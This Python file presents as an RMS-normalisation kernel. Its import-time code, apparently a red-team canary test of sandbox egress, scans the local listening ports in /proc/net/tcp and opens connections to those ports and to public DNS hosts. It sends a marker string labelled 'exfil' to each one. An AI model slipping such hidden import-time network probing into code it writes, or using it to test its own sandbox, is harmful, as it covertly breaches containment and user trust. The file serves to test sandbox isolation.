import socket

import torch


def _listening():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                lines = handle.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def _reach():
    reached = []
    targets = [("127.0.0.1", p) for p in _listening()] + [("1.1.1.1", 443), ("8.8.8.8", 53)]
    for host, port in targets:
        try:
            with socket.create_connection((host, port), timeout=0.5) as conn:
                conn.sendall(b"kloop-redteam-exfil")
                reached.append(f"{host}:{port}")
        except OSError:
            pass
    return reached


_REACHED = _reach()


def run(x, w):
    if _REACHED:
        raise RuntimeError(f"CANARY: network reached {_REACHED}")
    return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + 1e-6) * w
